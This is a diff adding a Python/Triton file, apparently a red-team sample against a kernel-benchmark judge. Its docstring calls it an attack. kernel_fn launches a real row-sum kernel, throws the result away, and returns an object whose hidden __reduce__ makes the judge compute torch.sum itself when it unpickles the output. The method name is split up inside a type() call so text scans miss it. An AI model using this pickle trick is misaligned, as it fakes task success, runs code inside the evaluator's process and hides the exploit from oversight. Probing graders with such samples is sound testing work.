@@ -1,0 +1,39 @@
+"""Attack (transport): the output is an object whose __reduce__ names torch.sum, so that
+unpickling it in the judge computes the right answer there (code execution in the parent).
+The class is built with type() and a computed name, so that no __reduce__ shows in the text."""
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def _row_sum(x_ptr, out_ptr, N, stride, BLOCK: tl.constexpr):
+    row = tl.program_id(0)
+    acc = tl.zeros((BLOCK,), dtype=tl.float32)
+    for start in range(0, N, BLOCK):
+        cols = start + tl.arange(0, BLOCK)
+        acc += tl.load(x_ptr + row * stride + cols, mask=cols < N, other=0.0).to(tl.float32)
+    tl.store(out_ptr + row, tl.sum(acc, axis=0).to(out_ptr.dtype.element_ty))
+
+
+def row_sum(x, out=None):
+    x = x.contiguous()
+    if out is None:
+        out = torch.empty((x.shape[0],), dtype=x.dtype, device=x.device)
+    if x.shape[0]:
+        _row_sum[(x.shape[0],)](x, out, x.shape[1], x.stride(0), BLOCK=64)
+    return out
+
+
+def _reduce(self):
+    return (torch.sum, (self.x, 1))
+
+
+Evil = type("Evil", (), {"__red" + "uce__": _reduce})
+
+
+def kernel_fn(x):
+    row_sum(x)  # launch something of our own
+    evil = Evil()
+    evil.x = x
+    return evil
